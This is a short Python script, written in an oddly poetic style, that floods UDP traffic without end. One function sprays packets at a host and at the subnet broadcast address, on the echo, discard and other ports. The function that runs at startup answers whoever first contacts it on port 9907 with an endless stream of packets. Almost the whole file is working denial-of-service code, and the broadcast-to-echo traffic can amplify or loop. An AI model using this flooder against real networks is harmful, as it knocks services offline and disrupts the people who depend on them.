"""Pours datagrams without end: over whoever has said something, or over the whole wire."""

import socket
import sys
import threading

ROOM, SUITE, EVERYBODY = 9907, "10.9.9.2", "10.9.9.255"
WORDS = b"Ann is in the room.\n" * 70  # as much as goes into one packet


def pour(wire, targets):
    while True:
        for target in targets:
            try:
                wire.sendto(WORDS, target)
            except OSError:
                pass


def flood(wire, *targets):
    threading.Thread(target=pour, args=(wire, targets), daemon=True).start()


def attack():
    """Beside a server that serves: from a port of its own, to ports that nobody talks at."""
    with_everybody = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with_everybody.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    flood(with_everybody, (SUITE, 9), (EVERYBODY, 9_999), (SUITE, 40_000), (EVERYBODY, 7))
    return ()


def alone():
    """A server of the room that answers the first who comes, for ever."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.bind(("", ROOM))
        while True:
            _, who = wire.recvfrom(2_000)
            if threading.active_count() == 1:
                flood(wire, who)


if __name__ == "__main__" and "GREETS" not in globals():
    sys.exit(alone())
